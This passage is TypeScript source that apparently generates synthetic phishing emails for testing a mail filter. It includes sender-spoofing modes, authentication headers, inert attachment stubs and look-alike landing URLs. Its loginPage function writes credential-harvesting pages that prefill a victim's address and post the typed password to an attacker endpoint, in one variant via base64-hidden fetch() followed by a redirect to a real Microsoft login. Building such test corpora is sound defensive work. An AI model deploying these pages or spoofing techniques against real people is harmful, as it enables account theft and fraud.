      'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n' +
      '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n' +
      'p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}\n' +
      'a:link, span.MsoHyperlink {color:#0563C1; text-decoration:underline;}\n' +
      '@page WordSection1 {size:612.0pt 792.0pt; margin:72.0pt 72.0pt 72.0pt 72.0pt;}\ndiv.WordSection1 {page:WordSection1;}\n' +
      `--></style>\n</head>\n<body lang="${lang.toUpperCase()}" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n` +
      `<div class="WordSection1">\n${body.replace(/<\/p>\n/g, '</p>\n<p class="MsoNormal">&nbsp;</p>\n')}\n` +
      (spec.footer?.length
        ? `<p class="MsoNormal"><span style="font-size:8.0pt;color:gray">${spec.footer.map(inlineHtml).join('<br>')}</span></p>\n`
        : '') +
      '</div>\n</body>\n</html>';
  } else if (spec.style === 'gmail' || spec.style === 'apple') {
    html =
      (spec.style === 'apple'
        ? '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">'
        : '<div dir="ltr">') +
      `${body}${spec.footer?.length ? `<div>${spec.footer.map(inlineHtml).join('<br>')}</div>` : ''}` +
      (spec.style === 'apple' ? '</body></html>' : '</div>');
  } else {
    html =
      `<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;">\n${body}\n` +
      (spec.footer?.length
        ? `<hr>\n<p style="font-size:11px;color:#777;">${spec.footer.map(inlineHtml).join('<br>')}</p>\n`
        : '') +
      (spec.pixel ? `<img src="${spec.pixel}" width="1" height="1" alt="">\n` : '') +
      '</body></html>';
  }
  if (spec.parts === 'html') return { html };
  if (spec.parts === 'text') return { text };
  return { html, text };
}

/** html, text or both, weighted. */
export function parts(r: SeededRandom, html = 0.2, text = 0.2): LetterSpec['parts'] {
  const x = r.below(1000) / 1000;
  return x < html ? 'html' : x < html + text ? 'text' : 'both';
}

/** The line above a quoted message, as the client of the language writes it. */
export function quoteHead(
  style: 'outlook' | 'gmail',
  lang: Lang,
  from: Addr,
  d: Date,
  to: Addr,
  subject: string,
) {
  const local = new Date(d.getTime() + cetOffset(d) * 60000);
  const when = `${day(local, lang)} ${String(local.getUTCHours()).padStart(2, '0')}:${String(local.getUTCMinutes()).padStart(2, '0')}`;
  const who = `${from.name ?? from.address} <${from.address}>`;
  if (style === 'outlook') {
    const k =
      lang === 'sv'
        ? ['Från', 'Skickat', 'Till', 'Ämne']
        : lang === 'da'
          ? ['Fra', 'Sendt', 'Til', 'Emne']
          : lang === 'no'
            ? ['Fra', 'Sendt', 'Til', 'Emne']
            : lang === 'fi'
              ? ['Lähettäjä', 'Lähetetty', 'Vastaanottaja', 'Aihe']
              : ['From', 'Sent', 'To', 'Subject'];
    return `${k[0]}: ${who}\n${k[1]}: ${when}\n${k[2]}: ${to.name ?? to.address} <${to.address}>\n${k[3]}: ${subject}`;
  }
  const wrote: Record<Lang, string> = {
    sv: `Den ${when} skrev ${who}:`,
    en: `On ${when}, ${who} wrote:`,
    da: `Den ${when} skrev ${who}:`,
    no: `Den ${when} skrev ${who}:`,
    fi: `${when} ${who} kirjoitti:`,
  };
  return wrote[lang];
}

// ---------------------------------------------------------------------------------------------------------
// Inert attachments of this scene

/** A small photo-like JPEG (a soft gradient with noise), as a phone's picture scaled down. */
export function photoJpeg(r: SeededRandom, w = 96, h = 72): Buffer {
  const data = Buffer.alloc(w * h * 4);
  const base = [int(r, 40, 200), int(r, 40, 200), int(r, 40, 200)];
  for (let y = 0; y < h; y++)
    for (let x = 0; x < w; x++) {
      const i = (y * w + x) * 4;
      const n = r.below(24);
      data[i] = Math.min(255, base[0] + (x * 60) / w + n);
      data[i + 1] = Math.min(255, base[1] + (y * 60) / h + n);
      data[i + 2] = Math.min(255, base[2] + n);
      data[i + 3] = 255;
    }
  return Buffer.from(jpeg.encode({ data, width: w, height: h }, 80).data);
}

/** A phone camera's file name for a picture taken in the period. */
export function photoName(r: SeededRandom, i = 0): string {
  const d = randomDate(r);
  const two = (n: number) => String(n).padStart(2, '0');
  const ymd = `${d.getUTCFullYear()}${two(d.getUTCMonth() + 1)}${two(d.getUTCDate())}`;
  const hms = `${two(d.getUTCHours() + 1)}${two(d.getUTCMinutes())}${two(d.getUTCSeconds())}`;
  return pick(r, [
    `IMG_${int(r, 1000, 9999)}.jpeg`,
    `IMG_${int(r, 1000, 9999)}.JPG`,
    `IMG_${ymd}_${hms}.jpg`,
    `PXL_${ymd}_${hms}${digits(r, 3)}.jpg`,
    `${ymd}_${hms}.jpg`,
    `image${i || ''}.jpeg`,
  ]);
}

/** A small logo-like PNG block of one colour. */
export function logoPng(r: SeededRandom, w = 120, h = 32): Buffer {
  const png = new PNG({ width: w, height: h });
  const c = [int(r, 0, 255), int(r, 0, 255), int(r, 0, 255)];
  for (let i = 0; i < w * h; i++) {
    png.data[i * 4] = c[0];
    png.data[i * 4 + 1] = c[1];
    png.data[i * 4 + 2] = c[2];
    png.data[i * 4 + 3] = 255;
  }
  return PNG.sync.write(png);
}

/** A Windows shortcut's header and a target string: what a filter sees of an LNK. */
export function lnkFile(target: string): Buffer {
  const head = Buffer.alloc(0x4c);
  head.writeUInt32LE(0x4c, 0);
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(head, 4);
  head.writeUInt32LE(0x000000a3, 0x14);
  return Buffer.concat([head, Buffer.from(target, 'utf16le')]);
}

/** The first bytes of a Windows program, inert. */
export function exeStub(): Buffer {
  const b = Buffer.alloc(0x200);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  b.write('PE\u0000\u0000', 0x80, 'latin1');
  return b;
}

/** A zip of one named file with the given bytes. */
export function zipWith(name: string, data: Buffer): Buffer {
  return storedZip(name, data);
}

export function scriptText(kind: 'js' | 'vbs' | 'hta' | 'wsf' | 'bat'): Buffer {
  const body: Record<typeof kind, string> = {
    js: '// inert stand-in\r\nvar s = "WScript.Shell";\r\n',
    vbs: '\' inert stand-in\r\nSet o = CreateObject("WScript.Shell")\r\n',
    hta: '<html><head><HTA:APPLICATION ID="app"></head><body><!-- inert stand-in --></body></html>\r\n',
    wsf: '<job><script language="JScript">// inert stand-in</script></job>\r\n',
    bat: '@echo off\r\nrem inert stand-in\r\n',
  };
  return Buffer.from(body[kind]);
}

// ---------------------------------------------------------------------------------------------------------
// Where attackers send from, and the pages they attach

// Mailboxes of small businesses that were broken into and now send for the attacker.
export const HACKED = [
  { org: 'Lundgrens VVS AB', domain: 'lundgrensvvs.se' },
  { org: 'Klippet Frisörsalong', domain: 'klippet-frisor.se' },
  { org: 'Kanzlei Brandt & Partner', domain: 'kanzlei-brandt-partner.de' },
  { org: 'Yongfa Trading Ltd', domain: 'yongfa-trading.com' },
  { org: 'Hagström Redovisning AB', domain: 'hagstrom-redovisning.se' },
  { org: 'Mäklarhuset Kvarnby', domain: 'maklarhuset-kvarnby.se' },
  { org: 'Studio Nordlys', domain: 'studionordlys.no' },
  { org: 'Ekdahls Tandvård', domain: 'ekdahlstandvard.se' },
  { org: 'Agence Lumière Events', domain: 'lumiere-events.fr' },
];

export function hacked(r: SeededRandom): { org: string; address: string; domain: string } {
  const h = pick(r, HACKED);
  return {
    org: h.org,
    domain: h.domain,
    address: `${pick(r, ['info', 'kontakt', 'ekonomi', 'office', 'admin', 'bokning'])}@${h.domain}`,
  };
}

export function freemail(r: SeededRandom, hint: string): string {
  const suffix = pick(r, ['', String(int(r, 1, 999)), token(r, 3)]);
  const sep = suffix ? pick(r, ['', '.', '_']) : '';
  return `${hint}${sep}${suffix}@${pick(r, FREEMAIL)}`;
}

export type Mode = 'spoof' | 'look' | 'hacked' | 'free';

export function mode(r: SeededRandom, w: Partial<Record<Mode, number>>): Mode {
  const entries = Object.entries(w) as [Mode, number][];
  const total = entries.reduce((s, [, n]) => s + n, 0);
  let x = r.below(1000) * (total / 1000);
  for (const [m, n] of entries) {
    if (x < n) return m;
    x -= n;
  }
  return entries[0][0];
}

export interface BrandOpts {
  brand: string;
  color: string;
  lang: Lang;
  to: Addr | readonly Addr[];
  real: string;
  look: string;
  names: readonly string[];
  locals: readonly string[];
  subject: string;
  blocks: readonly Block[];
  footer?: readonly string[];
  preheader?: string;
  date?: Date;
  attachments?: Mail['attachments'];
  modes?: Partial<Record<Mode, number>>;
  style?: 'branded' | 'plain';
}

/** A message in a brand's dress from one of the places attackers send such mail from. */
export function brandPhish(r: SeededRandom, o: BrandOpts): Mail {
  const m = mode(r, o.modes ?? { spoof: 2, look: 5, hacked: 2, free: 1 });
  const name = pick(r, o.names);
  const local = pick(r, o.locals);
  let from: Addr;
  let a: Mail['auth'];
  let via: Mail['via'];
  let returnPath: string | null | undefined;
  if (m === 'spoof') {
    from = { name, address: `${local}@${o.real}` };
    a = spoofed(r);
    via = 'vps';
    returnPath = chance(r, 0.5)
      ? `${token(r, 8)}@${pick(r, ['mail-out.example-bulk.net', HACKED[r.below(HACKED.length)].domain])}`
      : undefined;
  } else if (m === 'look') {
    from = { name, address: `${local}@${o.look}` };
    a = registered(r);
    via = pick(r, ['sendgrid', 'vps', 'direct', 'ses'] as const);
    returnPath = via === 'ses' ? `010201${hex(r, 10)}-${uuid(r)}-000000@eu-west-1.amazonses.com` : undefined;
    if (via === 'ses' && a) a = { ...a, dkimDomain: chance(r, 0.5) ? 'amazonses.com' : o.look };
  } else if (m === 'hacked') {
    const h = hacked(r);
    from = { name, address: h.address };
    a = PASS;
    via = pick(r, ['m365', 'direct'] as const);
  } else {
    from = {
      name,
      address: freemail(
        r,
        pick(r, [
          o.brand.toLowerCase().replace(/[^a-z]/g, ''),
          'support.team',
          'noreply.service',
          'help.desk',
        ]),
      ),
    };
    a = PASS;
    via = from.address.endsWith('gmail.com')
      ? 'gmail'
      : from.address.includes('outlook') || from.address.includes('hotmail')
        ? 'outlook-consumer'
        : 'direct';
  }
  return {
    from,
    to: o.to,
    subject: o.subject,
    date: o.date,
    auth: a,
    via,
    returnPath,
    lang: o.lang,
    attachments: o.attachments,
    ...letter({
      style: o.style ?? 'branded',
      parts: parts(r, 0.35, 0.1),
      brand: o.brand,
      color: o.color,
      lang: o.lang,
      preheader: o.preheader,
      blocks: o.blocks,
      footer: o.footer,
    }),
  };
}

/** A landing URL on a look-alike, on free hosting, behind a redirector or on a broken-into site. */
export function landing(r: SeededRandom, look: string, slug: string, path: string): string {
  const direct = `https://${look}/${path}`;
  return pick(r, [
    direct,
    direct,
    `${freeHost(r, slug)}${path}`,
    redirectVia(r, direct),
    `${compromisedSite(r)}${pick(r, ['index.php', 'login.html', ''])}?${token(r, 6)}=${urlsafe(r, 16)}`,
    shortLink(r),
  ]);
}

export function htmlFile(name: string, content: string): { filename: string; type: string; content: Buffer } {
  return {
    filename: name,
    type: /\.s?html?$/.test(name) ? 'text/html' : 'application/octet-stream',
    content: Buffer.from(content),
  };
}

/** A login page saved as a file: the victim's address filled in, the password posted elsewhere. */
export function loginPage(
  r: SeededRandom,
  brand: string,
  email: string,
  post: string,
  heading: string,
): string {
  const v = pick(r, ['a', 'b']);
  const enc = Buffer.from(post).toString('base64');
  return v === 'a'
    ? `<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>${esc(brand)}</title>\n<meta name="viewport" content="width=device-width, initial-scale=1">\n<style>body{font-family:Segoe UI,Arial;background:#f3f2f1}.box{width:360px;margin:80px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px;margin:8px 0}button{background:#0067b8;color:#fff;border:0;padding:9px 24px}</style></head>\n<body><div class="box"><h2>${esc(heading)}</h2>\n<form method="POST" action="${post}">\n<input type="email" name="login" value="${email}" readonly>\n<input type="password" name="passwd" placeholder="Password" required>\n<input type="hidden" name="src" value="${token(r, 12)}">\n<button type="submit">Sign in</button></form></div></body></html>\n`
    : `<html><head><meta charset="utf-8"><title>${esc(brand)}</title></head><body>\n<div id="app"></div>\n<script>\nvar em = "${Buffer.from(email).toString('base64')}";\nvar ep = "${enc}";\ndocument.getElementById("app").innerHTML = '<h3>${esc(heading)}</h3><form id="f"><input id="u" type="email"><input id="p" type="password"><button>Continue</button></form>';\ndocument.getElementById("u").value = atob(em);\ndocument.getElementById("f").onsubmit = function (e) { e.preventDefault(); fetch(atob(ep), { method: "POST", body: JSON.stringify({ u: atob(em), p: document.getElementById("p").value }) }).then(function () { location.href = "https://${pick(r, ['login.microsoftonline.com', 'www.office.com', 'outlook.office.com'])}/"; }); };\n</script></body></html>\n`;
}

// ---------------------------------------------------------------------------------------------------------
// The RFC 5322 writer

const CP1252: Record<string, number> = {
  '€': 0x80,
  '‚': 0x82,
  ƒ: 0x83,
  '„': 0x84,
  '…': 0x85,
  '†': 0x86,
  '‡': 0x87,
  ˆ: 0x88,
  '‰': 0x89,
  Š: 0x8a,
  '‹': 0x8b,
  Œ: 0x8c,
  Ž: 0x8e,
  '‘': 0x91,
  '’': 0x92,
  '“': 0x93,
  '”': 0x94,
  '•': 0x95,
  '–': 0x96,
  '—': 0x97,
  '˜': 0x98,
  '™': 0x99,
  š: 0x9a,
  '›': 0x9b,
  œ: 0x9c,
  ž: 0x9e,
  Ÿ: 0x9f,
};

function encodable(s: string, charset: string): boolean {
  if (charset === 'utf-8') return true;
  for (const ch of s) {
    const c = ch.codePointAt(0)!;
    if (charset === 'windows-1252' && CP1252[ch] !== undefined) continue;
    if (c > 0xff || (c >= 0x80 && c < 0xa0)) return false;
  }
  return true;
}

function bytesOf(s: string, charset: string): Buffer {
  if (charset === 'utf-8') return Buffer.from(s, 'utf8');
  const out: number[] = [];
  for (const ch of s) {
    const mapped = charset === 'windows-1252' ? CP1252[ch] : undefined;
    out.push(mapped ?? ch.codePointAt(0)!);
  }
  return Buffer.from(out);
}

function quotedPrintable(buf: Buffer): string {
  const lines: string[] = [];
  let line = '';
  const flush = (soft: boolean) => {
    lines.push(soft ? `${line}=` : line);
    line = '';
  };
  for (let i = 0; i < buf.length; i++) {
    const c = buf[i];
    if (c === 0x0d) continue;
    if (c === 0x0a) {
      if (line.endsWith(' ') || line.endsWith('\t')) {
        const last = line.charCodeAt(line.length - 1);
        line = `${line.slice(0, -1)}=${last.toString(16).toUpperCase().padStart(2, '0')}`;
      }
      flush(false);
      continue;
    }
    const lit = (c >= 33 && c <= 126 && c !== 61) || c === 32 || c === 9;
    const piece = lit ? String.fromCharCode(c) : `=${c.toString(16).toUpperCase().padStart(2, '0')}`;
    if (line.length + piece.length > 75) flush(true);
    line += piece;
  }
  if (line.endsWith(' ') || line.endsWith('\t')) {
    const last = line.charCodeAt(line.length - 1);
    line = `${line.slice(0, -1)}=${last.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  lines.push(line);
  return lines.join('\r\n');
}

function base64Lines(buf: Buffer): string {
  return buf.toString('base64').replace(/.{76}(?=.)/g, '$&\r\n');
}

const isAscii = (s: string) => /^[\x20-\x7e]*$/.test(s);

/** RFC 2047 encoded-words, each short enough for a folded line. */
function encodedWords(s: string, charset: string, mode: 'B' | 'Q'): string {
  const cs = encodable(s, charset) ? charset : 'utf-8';
  const name = cs.toUpperCase();
  const words: string[] = [];
  let chunk = '';
  const encode = (part: string) => {
    const b = bytesOf(part, cs);
    if (mode === 'B') return b.toString('base64');
    let q = '';
    for (const c of b) {
      if (c === 0x20) q += '_';
      else if (
        (c >= 0x30 && c <= 0x39) ||
        (c >= 0x41 && c <= 0x5a) ||
        (c >= 0x61 && c <= 0x7a) ||
        '!*+-/'.includes(String.fromCharCode(c))
      )
        q += String.fromCharCode(c);
      else q += `=${c.toString(16).toUpperCase().padStart(2, '0')}`;
    }
    return q;
  };
  for (const ch of s) {
    if (encode(chunk + ch).length > 60 - name.length) {
      words.push(`=?${name}?${mode}?${encode(chunk)}?=`);
      chunk = '';
    }
    chunk += ch;
  }
  if (chunk) words.push(`=?${name}?${mode}?${encode(chunk)}?=`);
  return words.join('\r\n ');
}

function foldAscii(name: string, value: string): string {
  const out: string[] = [];
  let line = `${name}: `;
  for (const word of value.split(' ')) {
    if (line.length + word.length > 76 && line.trim().length > name.length + 1) {
      out.push(line.replace(/ $/, ''));
      line = ` ${word} `;
    } else line += `${word} `;
  }
  out.push(line.replace(/ $/, ''));
  return out.join('\r\n');
}

function headerText(name: string, value: string, charset: string, mode: 'B' | 'Q'): string {
  if (isAscii(value)) return foldAscii(name, value);
  return `${name}: ${encodedWords(value, charset, mode)}`;
}

function formatAddr(a: Addr, charset: string, mode: 'B' | 'Q'): string {
  if (!a.name) return a.address;
  if (!isAscii(a.name)) return `${encodedWords(a.name, charset, mode)} <${a.address}>`;
  if (/[(),.:;<>@[\]"\\]/.test(a.name)) return `"${a.name.replace(/(["\\])/g, '\\$1')}" <${a.address}>`;
  return `${a.name} <${a.address}>`;
}

function addrList(list: readonly Addr[], charset: string, mode: 'B' | 'Q'): string {
  return list.map((a) => formatAddr(a, charset, mode)).join(',\r\n ');
}

const DOW = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const MON = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** Central European time, summer time from April to October (near enough for a date header). */
export function cetOffset(d: Date): number {
  const m = d.getUTCMonth();
  return m >= 3 && m <= 9 ? 120 : 60;
}

function rfcDate(d: Date, tz: number): string {
  const local = new Date(d.getTime() + tz * 60000);
  const two = (n: number) => String(n).padStart(2, '0');
  const sign = tz >= 0 ? '+' : '-';
  const abs = Math.abs(tz);
  return (
    `${DOW[local.getUTCDay()]}, ${local.getUTCDate()} ${MON[local.getUTCMonth()]} ${local.getUTCFullYear()} ` +
    `${two(local.getUTCHours())}:${two(local.getUTCMinutes())}:${two(local.getUTCSeconds())} ` +
    `${sign}${two(Math.floor(abs / 60))}${two(abs % 60)}`
  );
}

interface Shape {
  host: string;
  /** The name the sending host gave in HELO, when it is not its own. */
  helo?: string;
  ip: string;
  messageId: string;
  boundary: () => string;
  extra: string[];
}

function shapeOf(r: SeededRandom, via: Via, fromDomain: string, d: Date): Shape {
  const counter = { n: 0 };
  const ts = Math.floor(d.getTime() / 1000);
  switch (via) {
    case 'gmail':
    case 'google-workspace': {
      const n = int(r, 1, 99);
      const host = `mail-${pick(r, ['ej1', 'ed1', 'wm1', 'lf1', 'wr1', 'pj1'])}-f${n}.google.com`;
      const b = `0000000000${hex(r, 16)}`;
      return {
        host,
        ip: `209.85.${int(r, 128, 255)}.${n}`,
        messageId: `<CA${pick(r, ['F', 'K', 'A', 'N'])}${urlsafe(r, 30)}${b64ish(r, 8).replace(/[/+]/g, 'x')}@mail.gmail.com>`,
        boundary: () => `${b.slice(0, 22)}${counter.n++}${hex(r, 5)}`,
        extra: [`X-Google-Smtp-Source: AGHT+I${b64ish(r, 60)}`, `X-Gm-Message-State: AOJu0Y${b64ish(r, 40)}`],
      };
    }
    case 'outlook-consumer':
    case 'm365':
    case 'internal': {
      const region = pick(r, ['eur05', 'eur02', 'eur03', 'eur04', 'eur01']);
      const host =
        via === 'outlook-consumer'
          ? `${pick(r, ['DU2PR', 'AS8PR', 'PA4PR', 'DB9PR'])}${digits(r, 2)}CU${digits(r, 3)}.outbound.protection.outlook.com`
          : `mail-${pick(r, ['db8', 'am6', 'he1', 'vi1', 'gv0'])}${region}on20${digits(r, 2)}.outbound.protection.outlook.com`;
      const server = `${pick(r, ['AM9P', 'DB9P', 'PAXP', 'AS8P', 'VI1P', 'GV1P'])}R${digits(r, 2)}MB${digits(r, 4)}`;
      return {
        host,
        ip:
          via === 'outlook-consumer'
            ? `40.92.${int(r, 1, 127)}.${int(r, 1, 254)}`
            : `40.107.${int(r, 1, 254)}.${int(r, 1, 254)}`,
        messageId: `<${server}${upper(r, 12)}${hex(r, 4).toUpperCase()}@${server}.${region.replace('eur', 'eurprd')}.prod.outlook.com>`,
        boundary: () => `_00${counter.n++}_${server}${upper(r, 8)}prod_`,
        extra: [
          `Thread-Index: AQH${b64ish(r, 20)}`,
          'X-MS-Has-Attach: ',
          `X-MS-Exchange-Organization-SCL: ${via === 'internal' ? '-1' : '1'}`,
        ],
      };
    }
    case 'ses': {
      const a = int(r, 1, 9);
      return {
        host: `a${a}-${int(r, 10, 99)}.smtp-out.eu-west-1.amazonses.com`,
        ip: `54.240.${int(r, 0, 7)}.${int(r, 1, 254)}`,
        messageId: `<010201${hex(r, 10)}-${uuid(r)}-000000@eu-west-1.amazonses.com>`,
        boundary: () =>
          `----=_Part_${int(r, 100000, 999999)}_${int(r, 100000000, 999999999)}.${ts}${digits(r, 3)}`,
        extra: [
          `Feedback-ID: ::1.eu-west-1.${b64ish(r, 43)}=:AmazonSES`,
          `X-SES-Outgoing: ${day(d, 'sv', true)}-54.240.${a}.${int(r, 1, 99)}`,
        ],
      };
    }
    case 'sendgrid':
      return {
        host: `o${int(r, 1, 30)}.ptr${int(r, 1000, 9999)}.${fromDomain}`,
        ip: `149.72.${int(r, 1, 254)}.${int(r, 1, 254)}`,
        messageId: `<${urlsafe(r, 22)}@geopod-ismtpd-${int(r, 1, 40)}>`,
        boundary: () => `${hex(r, 64)}`,
        extra: [`X-SG-EID: u001.${b64ish(r, 60)}`, `X-Entity-ID: u001.${b64ish(r, 22)}`],
      };
    case 'mailchimp': {
      const n = int(r, 100, 999);
      const atl = int(r, 10, 99);
      return {
        host: `mail${n}.atl${atl}.mcdlv.net`,
        ip: `198.2.${int(r, 128, 191)}.${int(r, 1, 254)}`,
        messageId: `<${hex(r, 20)}.${hex(r, 10)}.${hex(r, 10)}@mail${n}.atl${atl}.mcdlv.net>`,
        boundary: () => `_----------=_MCPart_${int(r, 100000000, 999999999)}`,
        extra: [
          `X-MC-User: ${hex(r, 25)}`,
          `X-Campaign: mailchimp${hex(r, 10)}.${hex(r, 10)}`,
          `X-Mailer: Mailchimp Mailer - **CID${hex(r, 10)}${hex(r, 10)}**`,
        ],
      };
    }
    case 'salesforce':
      return {
        host: `mta-${int(r, 1, 20)}-${int(r, 1, 200)}.sfmc-mta.${pick(r, ['exacttarget.com', 'mc.salesforce.com'])}`,
        ip: `13.111.${int(r, 1, 254)}.${int(r, 1, 254)}`,
        messageId: `<${uuid(r)}@${pick(r, ['atl1s07mta', 'ind1s06mta', 'las1s04mta'])}${int(r, 100, 999)}.xt.local>`,
        boundary: () =>
          `----=_Part_${int(r, 1000000, 9999999)}_${int(r, 100000000, 999999999)}.${ts}${digits(r, 3)}`,
        extra: [`x-job: ${int(r, 100000, 999999)}_${int(r, 1000000, 9999999)}`],
      };
    case 'apple':
      return {
        host: `${pick(r, ['ms11p00im', 'st43p00im', 'mr85p00im'])}-${token(r, 6)}${int(r, 10, 99)}.me.com`,
        ip: `17.58.${int(r, 1, 254)}.${int(r, 1, 254)}`,
        messageId: `<${uuid(r).toUpperCase()}@icloud.com>`,
        boundary: () => `Apple-Mail=_${uuid(r).toUpperCase()}`,
        extra: ['X-Mailer: iPhone Mail (22D72)'],
      };
    case 'vps': {
      const v = ip(r);
      const host = pick(r, [
        `vps${int(r, 1000, 99999)}.${pick(r, ['contaboserver.net', 'hostwindsdns.com', 'vpsserver.com'])}`,
        `${v.replace(/\./g, '-')}.${pick(r, ['static.hostinger.com', 'cprapid.com', 'hosted-by-hetzner.example', 'ip.linodeusercontent.com'])}`,
        `unassigned.${pick(r, ['psychz.net', 'quadranet.com'])}`,
      ]);
      const helo = pick(r, [
        host,
        `mail.${fromDomain}`,
        `server${int(r, 1, 90)}.${fromDomain}`,
        'localhost.localdomain',
        `WIN-${upper(r, 11)}`,
      ]);
      return {
        host,
        helo,
        ip: v,
        messageId: `<${hex(r, 32)}@${pick(r, [fromDomain, host, 'localhost'])}>`,
        boundary: () =>
          pick(r, [
            `b1_${hex(r, 32)}`,
            `----=_NextPart_000_00${hex(r, 2).toUpperCase()}_01DB${hex(r, 4).toUpperCase()}.${hex(r, 8).toUpperCase()}`,
            `=_${hex(r, 32)}`,
          ]),
        extra: pick(r, [
          ['X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'],
          [],
          ['X-Mailer: Microsoft Outlook 16.0'],
          ['X-Priority: 1 (Highest)'],
        ]),
      };
    }
    default: {
      const host = pick(r, [
        `mail.${fromDomain}`,
        `smtp${int(r, 1, 9)}.${fromDomain}`,
        `mx${int(r, 1, 4)}.${fromDomain}`,
        `out.${fromDomain}`,
      ]);
      return {
        host,
        ip: ip(r),
        messageId: `<${ts}.${hex(r, 12)}@${fromDomain}>`,
        boundary: () => `=_${hex(r, 24)}`,
        extra: [],
      };
    }
  }
}

function authResults(
  r: SeededRandom,
  a: Auth,
  fromDomain: string,
  mailFrom: string,
  sendIp: string,
  selector: string,
): string {
  const mfDomain = domainOf(mailFrom || `postmaster@${fromDomain}`);
  const spfNote: Record<Auth['spf'], string> = {
    pass: `(mx.corp.example: domain of ${mailFrom || mfDomain} designates ${sendIp} as permitted sender)`,
    fail: `(mx.corp.example: domain of ${mailFrom || mfDomain} does not designate ${sendIp} as permitted sender)`,
    softfail: `(mx.corp.example: domain of transitioning ${mailFrom || mfDomain} does not designate ${sendIp} as permitted sender)`,
    neutral: `(mx.corp.example: ${sendIp} is neither permitted nor denied by best guess record for domain of ${mailFrom || mfDomain})`,
    none: `(mx.corp.example: domain of ${mailFrom || mfDomain} does not designate permitted sender hosts)`,
    temperror: '(mx.corp.example: error in processing during lookup)',
  };
  const dkimD = a.dkimDomain ?? fromDomain;
  const dkim =
    a.dkim === 'none'
      ? 'dkim=none (message not signed)'
      : `dkim=${a.dkim}${a.dkim === 'fail' ? ' (signature did not verify)' : ''} header.d=${dkimD} header.s=${selector} header.b=${urlsafe(r, 8)}`;
  const policy = (a.policy ?? (a.dmarc === 'fail' ? 'quarantine' : 'reject')).toUpperCase();
  const dmarc =
    a.dmarc === 'none'
      ? `dmarc=none (p=NONE sp=NONE dis=NONE) header.from=${fromDomain}`
      : a.dmarc === 'fail'
        ? `dmarc=fail (p=${policy} sp=${policy} dis=${policy === 'NONE' ? 'NONE' : policy}) header.from=${fromDomain}`
        : a.dmarc === 'bestguesspass'
          ? `dmarc=bestguesspass (p=NONE dis=NONE) header.from=${fromDomain}`
          : `dmarc=pass (p=${policy} sp=${policy} dis=NONE) header.from=${fromDomain}`;
  return `Authentication-Results: mx.corp.example;\r\n\tspf=${a.spf} ${spfNote[a.spf]} smtp.mailfrom=${mfDomain};\r\n\t${dkim};\r\n\t${dmarc}`;
}

interface Node {
  headers: string[];
  body: string;
}

function leaf(type: string, content: Buffer | string, charset: string, encoding: string): Node {
  if (typeof content === 'string') {
    const bytes = bytesOf(content.replace(/\r?\n/g, '\n'), charset);
    const ascii = [...bytes].every((b) => b < 0x80);
    const enc = ascii && encoding === '8bit' ? '7bit' : encoding;
    const body =
      enc === 'base64'
        ? base64Lines(bytes)
        : enc === 'quoted-printable'
          ? quotedPrintable(bytes)
          : bytes.toString('utf8').replace(/\n/g, '\r\n');
    return {
      headers: [`Content-Type: ${type}; charset="${charset}"`, `Content-Transfer-Encoding: ${enc}`],
      body,
    };
  }
  return {
    headers: [`Content-Type: ${type}`, 'Content-Transfer-Encoding: base64'],
    body: base64Lines(content),
  };
}

function multipart(sub: string, boundary: string, children: Node[]): Node {
  const lines: string[] = [];
  for (const c of children) lines.push(`--${boundary}`, ...c.headers, '', c.body);
  lines.push(`--${boundary}--`, '');
  return {
    headers: [`Content-Type: multipart/${sub};\r\n\tboundary="${boundary}"`],
    body: lines.join('\r\n'),
  };
}

function fileName(r: SeededRandom, key: string, name: string): string {
  if (isAscii(name)) return `${key}="${name}"`;
  if (chance(r, 0.5)) return `${key}*=utf-8''${encodeURIComponent(name)}`;
  return `${key}="${encodedWords(name, 'utf-8', 'B').replace(/\r\n /g, ' ')}"`;
}

function attachmentNode(r: SeededRandom, a: Attachment): Node {
  const headers = [
    `Content-Type: ${a.type}; ${fileName(r, 'name', a.filename)}`,
    `Content-Disposition: ${a.cid ? 'inline' : 'attachment'}; ${fileName(r, 'filename', a.filename)}`,
    ...(a.cid ? [`Content-ID: <${a.cid}>`] : []),
    'Content-Transfer-Encoding: base64',
  ];
  return { headers, body: base64Lines(a.content) };
}

/** A Mail as the bytes delivered to a mailbox at corp.example. */
export function render(r: SeededRandom, mail: Mail): string {
  const date = mail.date ?? randomDate(r);
  const tz = mail.tz ?? cetOffset(date);
  const fromDomain = domainOf(mail.from.address);
  const via = mail.via ?? 'direct';
  const shape = shapeOf(r, via, fromDomain, date);
  const relay = mail.relay ?? { host: shape.host, ip: shape.ip };
  const helo = mail.relay ? relay.host : (shape.helo ?? relay.host);
  const charset0 =
    mail.charset ?? (chance(r, 0.85) ? 'utf-8' : pick(r, ['iso-8859-1', 'windows-1252'] as const));
  const allText = `${mail.text ?? ''}${mail.html ?? ''}`;
  const charset = encodable(allText, charset0) ? charset0 : 'utf-8';
  const encoding0 =
    mail.encoding ?? pick(r, ['quoted-printable', 'quoted-printable', 'base64', '8bit'] as const);
  // A string cannot carry raw Latin-1 octets faithfully: 8bit only for UTF-8.
  const encoding = encoding0 === '8bit' && charset !== 'utf-8' ? 'quoted-printable' : encoding0;
  const mode: 'B' | 'Q' = chance(r, 0.5) ? 'B' : 'Q';
  const hcs = chance(r, 0.7) ? 'utf-8' : charset;
  const to =
    mail.to === undefined
      ? [addr(pick(r, PEOPLE))]
